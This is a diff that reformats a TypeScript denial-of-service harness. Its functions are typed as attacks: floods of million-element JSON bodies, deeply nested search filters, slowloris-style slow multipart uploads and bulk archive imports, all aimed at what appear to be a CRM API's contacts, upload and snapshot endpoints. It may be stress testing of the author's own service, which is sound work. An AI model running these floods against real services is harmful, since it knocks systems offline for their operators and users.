@@ -30,7 +30,10 @@ const count = (tally: Tally, what: string | number) => {
 /** The same call again and again, so many at a time; each of them by the next location. */
 function flood(
   lanes: number,
-  call: (ground: Ground, turn: number) => { path: string; token: string; body: string | Uint8Array<ArrayBuffer>; type?: string },
+  call: (
+    ground: Ground,
+    turn: number,
+  ) => { path: string; token: string; body: string | Uint8Array<ArrayBuffer>; type?: string },
 ): Attack {
   return async (ground, signal, tally) => {
     let turn = 0
@@ -60,16 +63,19 @@ const at = <T>(list: readonly T[], turn: number) => list[turn % list.length] as 
 const wrongBodies = new Map<string, Uint8Array<ArrayBuffer>>()
 const wrongElements = flood(4, ({ locations }, turn) => {
   const { id, token } = at(locations, turn)
-  const body = wrongBodies.get(id) ?? new Uint8Array(Buffer.from(`{"locationId":"${id}","tags":[${'1,'.repeat(999_999)}1]}`))
+  const body =
+    wrongBodies.get(id) ?? new Uint8Array(Buffer.from(`{"locationId":"${id}","tags":[${'1,'.repeat(999_999)}1]}`))
   wrongBodies.set(id, body)
   return { path: '/contacts/', token, body }
 })
 
-const conditions = (from: number) => Array.from({ length: 40 }, (_, n) => ({ field: 'firstNameLowerCase', operator: 'contains', value: `x${from + n}` }))
+const conditions = (from: number) =>
+  Array.from({ length: 40 }, (_, n) => ({ field: 'firstNameLowerCase', operator: 'contains', value: `x${from + n}` }))
 const nestedFilters = flood(8, ({ locations }, turn) => {
   const { id, token } = at(locations, turn)
   let filters: object[] = conditions(0)
-  for (let depth = 1; depth < 10; depth++) filters = [{ group: 'OR', filters: [...conditions(depth * 40), { group: 'AND', filters }] }]
+  for (let depth = 1; depth < 10; depth++)
+    filters = [{ group: 'OR', filters: [...conditions(depth * 40), { group: 'AND', filters }] }]
   return { path: '/contacts/search', token, body: JSON.stringify({ locationId: id, pageLimit: 500, filters }) }
 })
 
@@ -113,7 +119,13 @@ const streams: Attack = async ({ url, companyId, agencyToken, pushId }, signal, 
 /** A body that comes at so many bytes a second, as a request of its own. */
 async function send(
   ground: Ground,
-  { path, token, head, pieces, pieceMs }: { path: string; token: string; head: string; pieces: Iterable<Buffer>; pieceMs: number },
+  {
+    path,
+    token,
+    head,
+    pieces,
+    pieceMs,
+  }: { path: string; token: string; head: string; pieces: Iterable<Buffer>; pieceMs: number },
   signal: AbortSignal,
   tally: Tally,
 ) {
@@ -128,7 +140,9 @@ async function send(
     answered = true
     count(tally, data.toString('latin1', 9, 12))
   })
-  socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\nversion: 2021-07-28\r\nauthorization: Bearer ${token}\r\n${head}\r\n\r\n`)
+  socket.write(
+    `POST ${path} HTTP/1.1\r\nhost: x\r\nversion: 2021-07-28\r\nauthorization: Bearer ${token}\r\n${head}\r\n\r\n`,
+  )
   for (const piece of pieces) {
     if (signal.aborted || answered || socket.destroyed) break
     if (!socket.write(piece)) await Promise.race([once(socket, 'drain').catch(() => {}), closed])
@@ -149,7 +163,9 @@ const slowUploads: Attack = async (ground, signal, tally) => {
     while (!signal.aborted) {
       const { token } = at(ground.locations, index)
       const head = 'content-type: multipart/form-data; boundary=x\r\ncontent-length: 45000000'
-      const first = Buffer.from(`--x\r\ncontent-disposition: form-data; name="f"; filename="f.txt"\r\ncontent-type: text/plain\r\n\r\n`)
+      const first = Buffer.from(
+        `--x\r\ncontent-disposition: form-data; name="f"; filename="f.txt"\r\ncontent-type: text/plain\r\n\r\n`,
+      )
       const pieces = [first, ...repeat(Buffer.alloc(1_500, 'x'), 30_000)]
       await send(ground, { path: '/conversations/messages/upload', token, head, pieces, pieceMs: 250 }, signal, tally)
     }
@@ -177,7 +193,13 @@ const archives: Attack = async (ground, signal, tally) => {
       const head = `content-type: application/octet-stream\r\ncontent-length: ${chunks.reduce((sum, chunk) => sum + chunk.length, 0)}`
       await send(
         ground,
-        { path: `/snapshots/import-file?companyId=${ground.companyId}`, token: ground.agencyToken, head, pieces: chunks, pieceMs: 0 },
+        {
+          path: `/snapshots/import-file?companyId=${ground.companyId}`,
+          token: ground.agencyToken,
+          head,
+          pieces: chunks,
+          pieceMs: 0,
+        },
         signal,
         tally,
       )
